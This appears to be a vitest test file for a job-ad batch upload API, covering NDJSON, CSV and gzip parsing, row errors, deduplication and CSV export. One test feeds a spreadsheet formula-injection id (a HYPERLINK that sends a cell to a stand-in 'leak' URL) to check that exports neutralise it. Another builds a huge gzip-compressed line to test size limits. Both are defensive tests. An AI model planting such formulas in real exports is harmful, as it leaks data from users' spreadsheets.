import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BatchResult } from '../../src/interfaces/batch/output.js';
import { PROJECT_ROOT } from '../../src/base/paths.js';
import { engines } from '../helpers/context.js';
import { startTestService, waitFor, type TestService } from '../helpers/service.js';

const FIXTURES = join(PROJECT_ROOT, 'test', 'fixtures', 'batch');
const JSONL = readFileSync(join(FIXTURES, 'ads.jsonl'));
const CSV = readFileSync(join(FIXTURES, 'ads.csv'));
const WELDING_TECHNIQUES = 'http://data.europa.eu/esco/skill/530cb489-d900-46ab-9350-4d50ccd49eea';

interface Status {
  id: string;
  status: string;
  rows: number;
  accepted: number;
  rejected: number;
  documents: { queued: number; processing: number; done: number; failed: number };
  etaSeconds: number | null;
  errors: { row: number; line: number | null; id: string | null; reason: string }[];
}

const lines = (body: string) =>
  body
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as unknown);

describe.each(engines())('batch uploads on %s', (engine) => {
  let s: TestService;
  const upload = (payload: Buffer | string, type = 'application/x-ndjson', query = '') =>
    s.app.inject({ method: 'POST', url: `/v1/batches${query}`, headers: { 'content-type': type }, payload });
  const status = async (id: string) => (await s.app.inject({ method: 'GET', url: `/v1/batches/${id}` })).json<Status>();
  const finished = (id: string) =>
    waitFor(
      async () => {
        const st = await status(id);
        return st.documents.queued + st.documents.processing === 0 ? st : undefined;
      },
      30_000,
      `batch ${id}`,
    );
  const documentCount = async () =>
    (await s.app.inject({ method: 'GET', url: '/v1/documents?limit=1' })).json<{ total: number }>().total;

  beforeAll(async () => {
    s = await startTestService(engine, 'batches', { MAX_TEXT_CHARS: '5000' });
    s.startWorker();
  }, 60_000);
  afterAll(() => s.close());

  let first: Status;

  it('stores every readable row of an NDJSON upload, and lists the others with line and reason', async () => {
    const res = await upload(JSONL);
    expect(res.statusCode).toBe(202);
    first = res.json<Status>();
    expect(first).toMatchObject({ status: 'received', rows: 9, accepted: 4, rejected: 5 });
    expect(
      first.errors.map(({ row, line, id, reason }) => ({ row, line, id, reason: reason.replace(/:.*/s, '') })),
    ).toEqual([
      { row: 3, line: 3, id: null, reason: 'not valid JSON' },
      { row: 4, line: 4, id: null, reason: 'empty text' },
      {
        row: 6,
        line: 6,
        id: null,
        reason: 'date "yesterday" is not YYYY-MM-DD, an ISO timestamp or D.M.YYYY in the years 1900–2999',
      },
      { row: 7, line: 7, id: null, reason: 'no text' },
      { row: 9, line: 9, id: 'fi-1', reason: 'duplicate id "fi-1" (an earlier row has it)' },
    ]);
  });

  it('follows the batch to the end and streams the results in row order with horizon and polarity per mention', async () => {
    const done = await finished(first.id);
    expect(done.status).toBe('done');
    expect(done.documents).toEqual({ queued: 0, processing: 0, done: 4, failed: 0 });
    expect(done.etaSeconds).toBe(0);
    const res = await s.app.inject({ method: 'GET', url: `/v1/batches/${first.id}/results` });
    expect(res.headers['content-type']).toContain('application/x-ndjson');
    const results = lines(res.body) as BatchResult[];
    expect(results.map((r) => [r.row, r.id, r.language])).toEqual([
      [1, 'fi-1', 'fi'],
      [2, 'sv-1', 'sv'],
      [5, 'en-1', 'en'],
      [8, 'fi-2', 'fi'],
    ]);
    const welding = results[0]!.skills.find((k) => k.uri === WELDING_TECHNIQUES)!;
    expect(welding.spans).toEqual([
      {
        start: 55,
        end: 74,
        text: 'hitsaustekniikoiden',
        method: 'lexical',
        horizon: 'current',
        polarity: 'need',
        weight: 3,
      },
    ]);
    expect(results[0]!.regions.find((g) => g.primary && g.level === 'municipality')?.code).toBe('KU109');
    expect(results[0]!.occupations[0]?.isco).toMatch(/^\d{4}$/);
    // "15.3.2026" is a date; "lähivuosina" puts the need in the short horizon
    expect(results[3]!.date).toBe('2026-03-15');
    expect(results[3]!.skills.flatMap((k) => k.spans.map((m) => m.horizon))).toContain('short');
    const csv = await s.app.inject({ method: 'GET', url: `/v1/batches/${first.id}/results?format=csv` });
    expect(csv.body.split('\n')[0]).toBe(
      'id,row,language,date,skill_uris,skill_labels,skill_scores,skill_horizons,skill_polarities,occupation_uri,occupation_label,isco,sector,sector_label,region,region_name,regions',
    );
    expect(csv.body.trim().split('\n')).toHaveLength(5);
    const errors = lines((await s.app.inject({ method: 'GET', url: `/v1/batches/${first.id}/errors` })).body);
    expect(errors).toHaveLength(5);
  });

  it('writes CSV results whose cells a spreadsheet cannot run as formulas', async () => {
    const id = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")';
    const row = { id, text: 'Haemme hitsaajaa Seinäjoelle. Työ sisältää MIG-hitsausta.', language: 'fi' };
    const up = (await upload(`${JSON.stringify(row)}\n`)).json<Status>();
    await finished(up.id);
    const csv = (await s.app.inject({ method: 'GET', url: `/v1/batches/${up.id}/results?format=csv` })).body;
    const cell = csv.split('\n')[1]!.split(',')[0]!;
    expect(cell).toBe(`"'=HYPERLINK(""http://example.invalid/?leak=""&A1`);
  });

  it('does not duplicate documents when the same dump is uploaded again, gzipped', async () => {
    const before = await documentCount();
    const again = (await upload(gzipSync(JSONL))).json<Status>();
    expect(again).toMatchObject({ rows: 9, accepted: 4, rejected: 5 });
    expect(await documentCount()).toBe(before);
    const done = await finished(again.id);
    expect(done.documents.done).toBe(4);
    expect(
      (
        lines((await s.app.inject({ method: 'GET', url: `/v1/batches/${again.id}/results` })).body) as BatchResult[]
      ).map((r) => r.id),
    ).toEqual(['fi-1', 'sv-1', 'en-1', 'fi-2']);
  });

  it('reads CSV with quoted multi-line fields and Finnish column names, and reports a broken row', async () => {
    const res = await upload(CSV, 'text/csv; charset=utf-8');
    expect(res.statusCode).toBe(202);
    const st = res.json<Status>();
    expect(st).toMatchObject({ rows: 4, accepted: 2, rejected: 2 });
    expect(st.errors.map((e) => [e.row, e.reason.slice(0, 16)])).toEqual([
      [2, 'broken CSV row: '],
      [4, 'no text: field a'],
    ]);
    await finished(st.id);
    const results = lines(
      (await s.app.inject({ method: 'GET', url: `/v1/batches/${st.id}/results` })).body,
    ) as BatchResult[];
    expect(results.map((r) => r.id)).toEqual(['c-1', 'c-3']);
    expect(results[0]!.skills.map((k) => k.uri)).toContain(WELDING_TECHNIQUES);
  });

  it('reports a row with a NUL character and stores the rows around it', async () => {
    const rows = [
      {
        id: 'nul-1',
        text: 'Haemme kirvesmiestä Kuopioon.',
        employer: { name: 'Puuseppä Oy', businessId: '1234567-8', note: { x: 1 } },
      },
      { id: 'nul-2', text: 'Kirvesmies\u0000 Kuopioon.' },
      { id: 'nul-3', text: 'Vi söker en timmerman till Kuopio.' },
    ];
    const res = await upload(rows.map((r) => JSON.stringify(r)).join('\n'));
    expect(res.statusCode).toBe(202);
    const st = res.json<Status>();
    expect(st).toMatchObject({ rows: 3, accepted: 2, rejected: 1 });
    expect(st.errors).toEqual([
      { row: 2, line: 2, id: null, reason: 'text contains a NUL character (U+0000), which cannot be stored' },
    ]);
    // of an employer object, the known fields only
    const [row] = await s.db.query<{ id: string }>("SELECT id FROM documents WHERE external_id = 'nul-1'");
    expect((await s.documents.get(row!.id))?.employer).toEqual({ name: 'Puuseppä Oy', businessId: '1234567-8' });
  });

  it('reports a 2-GiB line as a row, without holding it, and stores the rows around it', async () => {
    // a line of 2 GiB (more than a string can hold) in a few megabytes of gzip members, one after another: the
    // line is counted as it streams past, never kept whole
    const block = gzipSync(Buffer.alloc(64 * 1024 * 1024, 'x'));
    const dump = Buffer.concat([
      gzipSync('{"id":"before-long","text":"Haemme hitsaajaa Vaasaan."}\n{"id":"long-1","text":"'),
      ...Array.from({ length: 32 }, () => block),
      gzipSync('"}\n{"id":"after-long","text":"Haemme hitsaajaa Ouluun."}'),
    ]);
    expect(dump.length).toBeLessThan(10_000_000);
    const res = await upload(dump);
    expect(res.statusCode, res.body).toBe(202);
    const st = res.json<Status>();
    expect(st).toMatchObject({ rows: 3, accepted: 2, rejected: 1 });
    expect(st.errors[0]).toMatchObject({
      row: 2,
      line: 2,
      reason: expect.stringMatching(/line is \d+ bytes long; the limit is/),
    });
    // a year 0 is a row error too, not a database error
    const old = await upload('{"id":"year-0","text":"Haemme hitsaajaa.","date":"0000-01-01"}');
    expect(old.json<Status>()).toMatchObject({ accepted: 0, rejected: 1 });
    expect((await s.app.inject({ method: 'GET', url: '/health' })).statusCode).toBe(200);
  });

  it('answers bad requests with 4xx', async () => {
    expect((await upload('{"text":"x"}', 'application/json')).statusCode).toBe(415);
    expect((await upload(JSONL, 'application/x-ndjson', '?kind=poem')).statusCode).toBe(400);
    expect((await s.app.inject({ method: 'GET', url: '/v1/batches/not-a-uuid' })).statusCode).toBe(400);
    expect(
      (await s.app.inject({ method: 'GET', url: '/v1/batches/00000000-0000-4000-8000-000000000000/results' }))
        .statusCode,
    ).toBe(404);
    const truncatedGzip = gzipSync(JSONL).subarray(0, 60);
    const res = await upload(truncatedGzip);
    expect(res.statusCode).toBe(400);
    expect(res.json<{ message: string }>().message).toMatch(/could not be read to the end/);
  });
});
